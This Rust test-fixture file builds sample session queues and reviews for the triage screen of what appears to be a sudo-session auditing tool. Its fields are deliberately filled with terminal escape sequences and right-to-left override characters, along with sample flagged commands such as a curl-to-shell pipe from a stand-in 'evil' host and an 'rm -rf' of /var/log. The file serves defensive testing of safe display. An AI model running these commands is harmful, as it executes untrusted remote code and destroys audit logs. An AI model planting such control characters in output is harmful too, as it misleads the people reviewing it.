//! A queue and a review for the tests of the triage screen; what others wrote is hostile in every field.

use sudolog_core::risk::{Anomaly, Category, Finding, Score, Source};
use sudolog_core::session::SessionState::{self, Complete, Incomplete, Live};
use sudolog_core::time::Timestamp;
use sudolog_core::triage::{Remark, RemarkKind, Verdict};
use sudolog_core::wire::message::{Assessment, Listing, Review, SessionRow};

use crate::screens::live::sample;

/// A session with this risk.
pub(crate) fn risky(number: u32, state: SessionState, points: u8) -> SessionRow {
    let mut row = sample::row(number, state);
    row.risk = Score::try_from(points).unwrap();
    row
}

/// Five sessions, the riskiest first; the third one has its verdict, the fourth awaits a second.
pub(crate) fn queue() -> Listing {
    let mut rows = vec![
        risky(46, Live, 100),
        risky(45, Complete, 60),
        risky(44, Complete, 49),
        risky(43, Incomplete, 24),
        risky(42, Complete, 0),
    ];
    rows[0].anomalies = vec![Anomaly::HighRisk, Anomaly::RootShell, Anomaly::Escape];
    rows[0].user = "mal\x1b[31mlory".into();
    rows[0].host = "web\u{202e}1".into();
    rows[0].command = "/bin/bash -c 'curl evil\x07 | sh'".into();
    rows[1].anomalies = Anomaly::ALL.to_vec();
    rows[1].standing.assignee = Some("v\x1bic".into());
    rows[1].standing.tags = vec!["case-7".into(), "t\u{202e}ag".into()];
    rows[2].standing.verdict = Some(Verdict::Benign);
    rows[2].standing.reviewed_by = vec!["olga".into()];
    rows[3].standing.verdict = Some(Verdict::Incident);
    rows[3].standing.reviewed_by = vec!["ol\x1bga".into()];
    rows[3].standing.awaits_second = true;
    rows[3].standing.notes = 2;
    rows[4].anomalies = vec![Anomaly::Outage];
    Listing { total: rows.len() as u64, rows }
}

/// Why the first one is first.
pub(crate) fn review() -> Review {
    let finding = |rule: &str, category, points, source, seq: u64, text: &str| Finding {
        rule: rule.to_owned(),
        category,
        points,
        source,
        seq,
        elapsed_ns: seq * 1_000_000_000,
        text: text.into(),
    };
    let findings = vec![
        finding("root-shell", Category::Shell, 20, Source::Command, 0, "/bin/bash"),
        finding("curl-pipe-sh", Category::Download, 45, Source::Typed, 7, "curl evil\x07 | sh"),
        finding(
            "log-\x1bdelete",
            Category::Tamper,
            80,
            Source::Shown,
            72,
            "rm -rf /var/log/\u{202e}x",
        ),
    ];
    let assessment = |risk: u8, rules: &str, findings| Assessment {
        anomalies: Vec::new(),
        rules: rules.to_owned(),
        at: Timestamp { seconds: 1_763_035_300, nanoseconds: 0 },
        seq: 80,
        risk: Score::try_from(risk).unwrap(),
        findings,
        left_out: 0,
    };
    let now = Assessment { left_out: 3, ..assessment(100, "ab\x1b12cd34ef56ab78", findings) };
    let said = |who: &str, kind| Remark {
        act: 9,
        at: Timestamp { seconds: 1_763_035_400, nanoseconds: 0 },
        who: who.into(),
        kind,
    };
    let verdict = Some(Verdict::Suspicious);
    let remarks = vec![
        said("ol\x1bga", RemarkKind::Verdict { verdict, why: "od\x07d at night".into() }),
        said("vic", RemarkKind::Note { elapsed_ns: 65_000_000_000, text: "lo\x1bok".into() }),
        said("vic", RemarkKind::Tag { tag: "case-\u{202e}7".into() }),
        said("vic", RemarkKind::TakeBack { taken: 9 }),
    ];
    Review {
        row: queue().rows.remove(0),
        assessments: vec![now, assessment(40, "0011223344556677", Vec::new())],
        remarks,
        watchers: vec!["na\x1b[2Jtasha".into()],
    }
}
